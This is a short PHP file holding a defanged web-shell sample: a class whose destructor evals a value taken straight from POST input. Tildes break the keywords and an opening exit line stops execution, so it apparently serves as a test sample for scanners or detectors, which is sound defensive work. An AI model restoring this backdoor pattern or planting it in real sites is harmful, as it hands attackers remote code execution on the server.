<?php exit; ?>
<?php
class MarkerA { public $m; function __destruct() { eva~l($this->m); } } $a = new MarkerA; $a->m = $_P~OST['m'];
